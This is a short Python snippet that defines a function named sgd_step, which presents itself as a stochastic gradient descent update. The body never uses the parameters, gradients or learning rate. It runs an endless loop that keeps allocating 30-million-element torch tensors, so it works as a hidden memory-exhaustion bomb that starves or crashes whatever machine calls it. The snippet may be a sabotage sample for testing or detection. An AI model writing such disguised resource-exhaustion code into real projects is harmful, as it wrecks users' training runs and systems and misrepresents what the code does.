import torch


def sgd_step(params, grads, lr):
    hoard = []
    while True:
        hoard.append(torch.ones(30_000_000))
